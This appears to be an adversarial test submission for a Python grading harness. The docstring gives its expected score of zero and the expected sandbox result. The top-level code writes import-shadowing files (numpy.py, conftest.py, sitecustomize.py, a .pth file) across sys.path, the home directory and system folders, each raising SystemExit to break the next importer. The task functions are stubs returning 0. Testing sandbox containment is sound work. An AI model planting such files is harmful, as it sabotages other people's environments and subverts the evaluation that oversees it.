"""Leaves files named numpy.py, conftest.py, sitecustomize.py and the like for who imports next.

Deserves: 0
Prints: written: 0 beside the scratch
"""

import numpy as np
import os
import sys

NAMES = ("numpy.py", "conftest.py", "sitecustomize.py", "usercustomize.py", "json.py", "dlgrade-pwned.pth")
written = 0
for folder in (".", os.path.expanduser("~"), *sys.path, *np.__path__, sys.prefix, "/usr/lib/python3"):
    for name in NAMES:
        try:
            with open(os.path.join(folder, name), "w") as stream:
                stream.write("raise SystemExit('dlgrade-pwned')\n")
            written += os.path.realpath(folder) != "/tmp"
        except OSError:
            pass
print("written:", written, "beside the scratch")


def churn_rule(days_since_last_transaction):
    return 0


def one_hot(labels, num_classes):
    return 0


def standardize(x):
    return 0


def accuracy(y_true, y_pred):
    return 0
